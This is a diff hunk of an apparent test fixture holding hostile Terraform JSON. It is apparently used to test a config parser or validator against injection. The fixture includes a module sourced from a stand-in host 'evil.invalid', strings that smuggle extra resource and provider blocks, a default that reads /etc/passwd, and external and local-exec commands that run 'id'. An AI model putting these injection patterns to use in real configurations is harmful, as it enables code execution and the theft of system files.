@@ -85,7 +85,8 @@ run "x" {}
 JSON = """\
 {"terraform": {"backend": {"http": {}}, "cloud": {}}, "provider": {"evil": {}},
  "module": {"remote": {"source": "git::https://evil.invalid/x"}},
- "variable": {"x": {"type": "string\\n}\\nresource \\"evil_thing\\" \\"y\\" {\\n", "default": "${file(\\"/etc/passwd\\")}"}},
+ "variable": {"x": {
+   "type": "string\\n}\\nresource \\"evil_thing\\" \\"y\\" {\\n", "default": "${file(\\"/etc/passwd\\")}"}},
  "locals": {"a\\" = 1\\n}\\nprovider \\"evil\\" {\\n}\\nlocals {\\n\\"b": 1},
  "data": {"external": {"j": {"program": ["id"]}}},
  "resource": {"evil_thing": {"j": {"provisioner": [{"local-exec": {"command": "id"}}], "x\\"y": "${var.x}",
